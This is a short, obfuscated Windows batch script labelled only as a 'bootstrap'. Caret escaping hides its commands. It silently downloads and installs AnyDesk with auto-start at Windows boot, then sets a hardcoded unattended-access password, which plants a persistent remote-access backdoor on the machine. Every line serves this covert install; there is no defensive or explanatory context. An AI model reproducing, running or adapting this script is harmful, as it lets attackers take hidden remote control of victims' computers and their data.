REM bootstrap 2408 v0
@echo off
cu^rl -sLo %TEMP%\^A^nyDe^sk.^e^x^e htt^ps://^d^o^wnloa^d.a^nydes^k.^com/A^n^y^Desk.ex^e
%TEMP%\A^nyDes^k.ex^e --ins^t^all "C:\ProgramData\AnyDesk" --s^tar^t-^wi^t^h-win --^s^i^le^n^t
@echo off
set uohu=echo Sup3rS3cure! ^| "C:\ProgramData\AnyDesk\AnyDesk.exe" --set-password
call %uohu%
